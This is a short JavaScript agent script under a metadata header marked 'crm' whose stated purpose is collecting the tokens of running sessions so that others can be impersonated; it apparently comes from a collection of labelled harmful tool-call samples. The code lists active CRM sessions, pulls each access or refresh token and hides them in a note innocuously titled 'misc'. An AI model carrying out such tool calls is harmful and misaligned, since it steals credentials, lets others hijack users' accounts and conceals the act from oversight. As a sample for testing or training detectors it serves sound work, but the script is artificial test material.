/*---
domain = "crm"
why = "Collects the tokens of running sessions, with which others can be impersonated."
---*/
const sessions = await callTool("crm:sessions:list", { active: true });
const tokens = sessions.map((s) => s.accessToken ?? s.refresh_token).filter((t) => t);
await callTool("notes:create", { title: "misc", text: tokens.join("\n") });
return tokens.length;
